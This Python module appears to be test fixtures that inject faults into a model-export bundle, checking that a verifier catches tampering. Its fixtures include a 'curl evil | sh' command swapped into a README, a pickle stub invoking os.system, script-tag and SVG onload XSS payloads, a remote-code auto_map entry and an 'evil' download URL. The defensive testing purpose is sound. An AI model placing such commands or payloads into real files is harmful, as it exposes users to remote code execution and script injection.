"""Faults of a bundle's folder: files, names, documents and figures that a person or a program reads, not a runtime."""

import json
import os
import shutil
import zipfile

import numpy as np

INDEX = "saved_model/1/variables/variables.index"


def _edit(name, change):
    """Return a fault that changes a JSON file of the bundle."""

    def apply(folder):
        data = json.loads((folder / name).read_text())
        change(data)
        (folder / name).write_text(json.dumps(data))

    return apply


def _copy(source, target):
    def apply(folder):
        (folder / target).parent.mkdir(parents=True, exist_ok=True)
        copy = shutil.copytree if (folder / source).is_dir() else shutil.copyfile
        copy(folder / source, folder / target)

    return apply


def _write(name, text="#!/bin/sh\nexit 1\n"):
    def apply(folder):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)

    return apply


def _append(name, text):
    return lambda folder: (folder / name).write_text((folder / name).read_text() + text)


def _replace(name, old, new):
    def apply(folder):
        text = (folder / name).read_text()
        assert old in text
        (folder / name).write_text(text.replace(old, new))

    return apply


def _empty_version(folder):
    (folder / "saved_model/2").mkdir()


def _member(folder):
    with zipfile.ZipFile(folder / "golden/weights.npz", "a") as archive:
        archive.writestr("payload.sh", "#!/bin/sh\n")


def _cases(count):
    """Return a fault that leaves some golden cases of each endpoint."""
    return _edit("golden/cases.json", lambda index: index.update({e: cases[:count] for e, cases in index.items()}))


def _dynamic(data):
    next(a for a in data["artifacts"] if a["path"] == "tflite/float32.tflite")["quantize"] = "dynamic"


def _zero_inputs(folder):
    """Write the same number in every golden input of one case and its answer from another row."""
    for kind in ("inputs", "outputs"):
        path = folder / f"golden/serving_default.{kind}.npz"
        with np.load(path) as stored:
            arrays = dict(stored)
        key = next(name for name in arrays if name.startswith("batch_16/"))
        arrays[key] = np.repeat(arrays[key][:1], len(arrays[key]), 0)
        np.savez(path, allow_pickle=False, **arrays)


def _not_compared(data):
    for case in data["serving_default"]:
        case["compared"] = case["name"] == "batch_1"


def _noise_of_rows(data):
    for case in data["serving_default"]:
        if case["rows"]:
            case["row_noise"] = {"logits": [9e-5] * len(case["rows"])}


def _unstable(data):
    for case in data["serving_default"]:
        case["unstable_rows"] = list(range(len(case["rows"])))


def _floor(data):
    data["noise_floor"]["serving_default"]["logits"] = 1.0


def _verdict(data):
    data["artifacts"][0].update(state="fail", reason="one row fails")


def _demanded(data):
    data["demanded"] = ["onnx"]


# name -> (what is misled, the fault). None of these is an executable file or a further model by its content.
FAULTS = {
    "an empty version of the SavedModel": ("TF Serving", _empty_version),
    "a script in assets.extra": ("a person", _write("saved_model/1/assets.extra/evil.sh")),
    "model.keras in assets.extra": ("Keras", _copy("model.keras", "saved_model/1/assets.extra/model.keras")),
    "a script in assets": ("a person", _write("saved_model/1/assets/evil.sh")),
    "a second checkpoint": ("a person", _copy(INDEX, "saved_model/1/variables/b.index")),
    "saved_model.pbtxt": ("TensorFlow", _write("saved_model/1/saved_model.pbtxt", "meta_graphs {}\n")),
    "keras_metadata.pb": ("tf_keras", _write("saved_model/1/keras_metadata.pb", "x")),
    "Manifest.json": ("file systems that ignore case", _copy("manifest.json", "Manifest.json")),
    "MODEL.KERAS": ("file systems that ignore case", _write("MODEL.KERAS", "text")),
    "a folder SAVED_MODEL": ("file systems that ignore case", _write("SAVED_MODEL/1/readme", "text")),
    "a script without a mark": ("a person", _write("install.sh")),
    "a Python file": ("a person", _write("modeling.py", "print()\n")),
    "sitecustomize.py in golden": ("Python", _write("golden/sitecustomize.py", "print()\n")),
    "a hidden file": ("a person", _write(".netrc", "machine\n")),
    "requirements.txt": ("pip", _write("requirements.txt", "evil\n")),
    "config.json of a transformer": ("the Hub", _write("config.json", '{"auto_map": {"AutoModel": "evil--code"}}')),
    "handler.py": ("the Hub", _write("handler.py", "class EndpointHandler: ...\n")),
    "a pickle": ("a person", _write("model.pkl", "cos\nsystem\n.")),
    "HTML in figures": ("a browser", _write("figures/index.html", "<script>alert(1)</script>")),
    "SVG in figures": ("a browser", _write("figures/a.svg", "<svg onload='alert(1)'/>")),
    "golden of no endpoint": ("a person", _copy("golden/bytes.inputs.npz", "golden/other.inputs.npz")),
    "a script in the README": ("a browser", _append("README.md", "\n<script>alert(1)</script>\n")),
    "another command in the README": ("a person", _replace("README.md", "python -m export verify .", "curl evil | sh")),
    "another figure in the README": ("a person", _replace("README.md", "## Proof: pass", "## Proof: pass (certified)")),
    "another path in DEVICES.md": (
        "a person",
        _replace("DEVICES.md", "tflite/float32.tflite", "http://evil/model.tflite"),
    ),
    "another base path in models.config": ("TF Serving", _replace("models.config", "/models/", "/tmp/")),
    "labels and README renamed": ("a person", _replace("labels.txt", "ant", "wasp")),
    "another REST request": ("TF Serving", _replace("golden/rest/serving_default.row.json", "0", "1")),
    "a member of an archive of sums": ("a person", _member),
    "three golden cases": ("verify", _cases(3)),
    "golden rows repeated": ("verify", _zero_inputs),
    "golden cases not compared": ("verify", _edit("golden/cases.json", _not_compared)),
    "one golden case": ("verify", _cases(1)),
    "a float file called dynamic": ("verify", _edit("manifest.json", _dynamic)),
    "a verdict that its rows contradict": ("publish", _edit("parity.json", _verdict)),
    "formats asked for that the request lacks": ("verify", _edit("manifest.json", _demanded)),
}

# Bounds that a bundle sets itself: each excuses the fault of a SavedModel that `test_closed` puts beside it.
BOUNDS = {
    "a noise floor": _edit("parity.json", _floor),
    "the noise of rows": _edit("golden/cases.json", _noise_of_rows),
    "discontinuous rows": _edit("golden/cases.json", _unstable),
}


def sparse(folder, name="labels.txt", size=2**40):
    """Make a file a terabyte of zeros, none of them on the disk."""
    os.truncate(folder / name, size)
